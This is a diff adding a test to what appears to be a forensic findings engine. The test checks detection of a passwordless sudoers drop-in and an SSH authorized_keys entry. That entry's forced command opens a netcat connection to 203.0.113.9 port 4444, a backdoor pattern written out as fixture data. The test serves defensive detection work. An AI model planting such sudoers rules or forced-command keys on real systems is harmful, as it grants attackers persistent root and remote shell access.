@@ -212,6 +212,21 @@ def test_persistence_candidates(case):
     assert ranks == sorted(ranks, reverse=True)
 
 
+def test_sudoers_and_forced_key_options(new_case, tmp_path):
+    c = new_case("sudoers")
+    add_text(c, tmp_path, "/etc/sudoers", "Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n",
+             checklist_id="B4")
+    add_text(c, tmp_path, "/etc/sudoers.d/zz", "%sudo ALL=(ALL:ALL) NOPASSWD: ALL\n", checklist_id="B4")
+    add_text(c, tmp_path, "/home/deploy/.ssh/authorized_keys",
+             'no-pty,command="/bin/sh -c \'nc 203.0.113.9 4444\'" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI x@y\n',
+             checklist_id="B4")
+    found = findings.run(c)
+    [sudo] = by_rule(found, "H2-sudoers-nopasswd")
+    assert sudo.details["path"] == "/etc/sudoers.d/zz"  # the stock file (no NOPASSWD) is not flagged
+    [keys] = by_rule(found, "H2-authorized-keys")
+    assert keys.severity == "medium"  # a forced command after another option
+
+
 def test_indicators_hashes_addresses_domains_and_yara(case, tmp_path):
     cron = case.latest("src_etc_crontab")
     cron_sha = cron.sha256
